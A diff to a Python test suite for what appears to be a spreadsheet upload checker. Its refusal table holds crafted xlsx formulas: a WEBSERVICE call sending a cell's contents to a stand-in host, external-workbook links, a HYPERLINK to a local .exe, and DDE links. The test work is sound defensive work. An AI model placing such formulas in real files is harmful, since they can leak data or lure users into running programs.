@@ -113,6 +113,9 @@ REFUSED = {
         "DDE",
     ),
     "formula that asks": (xlsx(A1='=_xlfn.WEBSERVICE("http://example.com/"&B1)'), "数式"),
+    "formula of another book": (xlsx(A1="='http://example.com/[a.xlsx]S'!A1"), "リンク"),
+    "formula of another book by its number": (xlsx(A1="=SUM([1]S!A1:A3)"), "リンク"),
+    "formula that leads to a program": (xlsx(A1='=HYPERLINK("file:///c:/a.exe","資料")'), "リンク"),
     "DDE link": (with_part(XLSX_BYTES, "xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink/></externalLink>"), "DDE"),
     "another book": (
         with_part(
@@ -225,6 +228,8 @@ def a_full_book():
         sheet.write_row("A1", ["項目", "値|単位", "<script>DDE cmd|x!A1</script>"])
         sheet.write_column("B2", [1, 2, 3, 4, 5])
         sheet.write_formula("D1", '=A1&"|"&B1&"!"')
+        sheet.write_formula("D6", '=HYPERLINK("https://example.lg.jp/a","資料")')
+        sheet.write_formula("D7", '=SUM(売上[金額])&"[1]"')
         sheet.write_formula("D2", "=SUM('a|b'!B2:B6)")
         sheet.write_url("D4", "https://example.lg.jp/", string="例")
         sheet.write_comment("D5", "メモ")
